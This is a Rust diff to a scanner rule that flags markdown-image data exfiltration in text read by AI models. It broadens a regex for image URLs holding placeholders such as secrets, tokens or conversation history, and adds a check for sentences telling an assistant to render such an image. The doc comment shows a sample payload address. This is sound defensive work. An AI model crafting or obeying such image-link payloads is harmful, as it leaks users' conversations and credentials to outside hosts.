@@ -8,8 +8,8 @@ use crate::model::rule::{RuleId, Severity};
 
 /// An address with a hole for data: `![x](https://h/?d={{conversation}})`.
 static PICTURE: Pattern = Pattern::new(
-    r"(?ix) (!\[[^\]]*\]\(|<img[^>]+src\s*=\s*['\x22]?|\]\() \s* https?://[^)\s'\x22>]* [?&/=] [^)\s'\x22>]*
-        (\$\{|\{\{|\{|<|\[|%7b) \s* [\w. -]* (secret|token|key|passw|env|conversation|history|prompt|context|chat|summary|content|data|message|credential|session|cookie|base64|encoded|output|answer|result) [\w. ()-]* (\}|>|\]|%7d)",
+    r"(?ix) (!\[[^\]]*\]\(|<img[^>]+src\s*=\s*['\x22]?|\]\() \s* https?://[^)\s'\x22<>]* [?&/=] [^)\s'\x22<>]*
+        (\$\{|\{\{|\{|<|\[|%7b) \s* [\w. ,-]* (secret|token|key|passw|env|conversation|history|prompt|context|chat|summary|content|data|message|credential|session|cookie|base64|encoded|output|answer|result) [\w. ,()-]* (\}|>|\]|%7d)",
 );
 /// The same asked for in words.
 static ASKED: Pattern = Pattern::new(
@@ -46,10 +46,20 @@ impl Check for MarkdownExfiltration {
     }
 }
 
+/// Whether the sentence tells whoever answers to show the picture; only a model fills in such a hole.
+fn ordered(text: &str, at: usize) -> bool {
+    static ORDERED: Pattern = Pattern::new(
+        r"(?i)\b(when|whenever|while|if|before|after|once)\s+(you|an?\s+(ai|assistant|agent|model)|assistants?|agents?|models?)\b[^.]{0,160}\b(show|render|include|display|add|append|insert|embed|put|use|begin|end|start|finish|output|print)\b",
+    );
+    let start = (0..=at.saturating_sub(300)).rev().find(|at| text.is_char_boundary(*at)).unwrap_or(0);
+    text.get(start..at).is_some_and(|before| ORDERED.is_match(before))
+}
+
 fn judged(passage: &Passage) -> Option<(usize, Severity)> {
     if let Some(range) = PICTURE.find(&passage.text).filter(|range| !BADGE.is_match(passage.text.get(range.clone()).unwrap_or(""))) {
         let severity = match (passage.stand, passage.live) {
             (_, false) => Severity::Info,
+            (Stand::Visible | Stand::Comment, true) if ordered(&passage.text, range.start) => Severity::Medium,
             (Stand::Visible | Stand::Comment, true) if passage.is_quoted(&range) => Severity::Info,
             (Stand::Visible | Stand::Literal | Stand::Comment, true) => Severity::Medium,
             (Stand::Instructions | Stand::Hidden | Stand::Message, true) => Severity::High,
